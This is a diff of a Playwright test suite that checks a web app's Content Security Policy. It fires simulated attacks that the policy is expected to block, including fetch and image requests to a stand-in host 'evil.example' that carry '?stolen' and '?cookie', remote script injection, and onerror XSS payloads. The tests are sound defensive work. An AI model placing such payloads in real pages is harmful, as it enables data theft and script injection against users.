@@ -1,8 +1,8 @@
 import type { Page } from '@playwright/test';
-import { SHELL_HEADERS } from '../../shared/site/headers.ts';
-import { expect, test } from './support/site.ts';
+import { SHELL_HEADERS } from '../../shared/tools/compose/headers.ts';
+import { expect, test } from '../../shared/testing/e2e/site.ts';
 
-/** What somebody who got a text into the page would try next; the policy (shared/site/headers.ts) stops each. */
+/** What somebody who got a text into the page would try next; the policy (shared/tools/compose/headers.ts) stops each. */
 test.use({ expectedComplaint: /./ });
 
 const EVIL = 'https://evil.example';
@@ -18,11 +18,15 @@ const ATTACKS: Record<string, { directive: string; attack: (evil: string) => voi
       button.click();
     },
   },
-  // oxlint-disable-next-line no-implied-eval -- the attack itself
-  'text run as code': { directive: 'require-trusted-types-for', attack: () => void setTimeout('window.harmed = true', 0) },
+  'text run as code': {
+    directive: 'require-trusted-types-for',
+    // oxlint-disable-next-line no-implied-eval -- the attack itself
+    attack: () => void setTimeout('window.harmed = true', 0),
+  },
   'a stranger’s script': {
     directive: 'require-trusted-types-for',
-    attack: (evil) => void document.body.append(Object.assign(document.createElement('script'), { src: `${evil}/x.js` })),
+    attack: (evil) =>
+      void document.body.append(Object.assign(document.createElement('script'), { src: `${evil}/x.js` })),
   },
   'a stranger’s module': { directive: 'script-src', attack: (evil) => void import(`${evil}/x.js`).catch(() => {}) },
   'a stranger’s picture': { directive: 'img-src', attack: (evil) => void (new Image().src = `${evil}/x.png?cookie`) },
@@ -34,15 +38,23 @@ const ATTACKS: Record<string, { directive: string; attack: (evil: string) => voi
       form.submit();
     },
   },
-  'a frame': { directive: 'frame-src', attack: (evil) => void document.body.append(Object.assign(document.createElement('iframe'), { src: `${evil}/` })) },
+  'a frame': {
+    directive: 'frame-src',
+    attack: (evil) => void document.body.append(Object.assign(document.createElement('iframe'), { src: `${evil}/` })),
+  },
   'a worker from text': {
     directive: 'require-trusted-types-for',
     attack: () => void new Worker(URL.createObjectURL(new Blob(['fetch("/")']))),
   },
-  'a request that carries data away': { directive: 'connect-src', attack: (evil) => void fetch(`${evil}/?stolen`).catch(() => {}) },
+  'a request that carries data away': {
+    directive: 'connect-src',
+    attack: (evil) => void fetch(`${evil}/?stolen`).catch(() => {}),
+  },
   'HTML from text': {
     directive: 'require-trusted-types-for',
-    attack: () => void (document.body.appendChild(document.createElement('div')).innerHTML = '<img src=x onerror="window.harmed=true">'),
+    attack: () =>
+      void (document.body.appendChild(document.createElement('div')).innerHTML =
+        '<img src=x onerror="window.harmed=true">'),
   },
   'another base for every link': {
     directive: 'base-uri',
@@ -65,7 +77,13 @@ for (const [what, { directive, attack }] of Object.entries(ATTACKS)) {
 test('an inline script in the document is stopped by script-src', async ({ page }) => {
   await page.route('**/home', async (route) => {
     const answer = await route.fetch();
-    await route.fulfill({ response: answer, body: (await answer.text()).replace('</body>', '<script>window.harmed = true</script><img src="x" onerror="window.harmed = true"></body>') });
+    await route.fulfill({
+      response: answer,
+      body: (await answer.text()).replace(
+        '</body>',
+        '<script>window.harmed = true</script><img src="x" onerror="window.harmed = true"></body>',
+      ),
+    });
   });
   await page.goto('/home');
   await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
@@ -75,11 +93,21 @@ test('an inline script in the document is stopped by script-src', async ({ page 
 test('the documents carry the policy and the other headers, exactly', async ({ request }) => {
   for (const path of ['/home', '/feed', '/login', '/nope']) {
     const { headers, policy } = await headersOf(request, path);
-    expect(headers).toMatchObject(Object.fromEntries(Object.entries(SHELL_HEADERS).map(([name, value]) => [name.toLowerCase(), value])));
+    expect(headers).toMatchObject(
+      Object.fromEntries(Object.entries(SHELL_HEADERS).map(([name, value]) => [name.toLowerCase(), value])),
+    );
     expect(policy[0]).toBe("default-src 'none'");
     const scripts = policy.find((line) => line.startsWith('script-src'))!;
     expect(scripts).toMatch(/^script-src 'self'( http:\/\/localhost:\d+){5}( 'sha256-[\w+/]{43}='){3}$/);
-    expect(policy).toEqual(expect.arrayContaining(["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "require-trusted-types-for 'script'", "form-action 'self'"]));
+    expect(policy).toEqual(
+      expect.arrayContaining([
+        "object-src 'none'",
+        "base-uri 'none'",
+        "frame-ancestors 'none'",
+        "require-trusted-types-for 'script'",
+        "form-action 'self'",
+      ]),
+    );
     expect(policy.join()).not.toMatch(/unsafe|\*/);
   }
 });
